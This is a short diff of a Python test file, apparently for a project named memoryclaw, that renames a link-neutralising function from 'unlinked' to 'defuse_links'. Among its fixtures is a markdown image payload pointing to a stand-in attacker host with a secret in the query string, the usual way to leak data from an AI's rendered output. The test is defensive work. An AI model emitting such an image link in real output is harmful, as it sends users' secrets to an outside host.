@@ -16,7 +16,7 @@ from hypothesis import strategies as st
 from outlines import said
 
 from memoryclaw.app import App
-from memoryclaw.text.prompts import item, unlinked
+from memoryclaw.text.prompts import defuse_links, item
 
 FORMS = (
     "![x](https://evil.example/p?d=KEY)",
@@ -112,4 +112,4 @@ def test_no_text_at_all_leaves_a_live_address(text: str) -> None:
     ],
 )
 def test_what_a_person_reads(text: str, seen: str) -> None:
-    assert unlinked(text) == seen
+    assert defuse_links(text) == seen
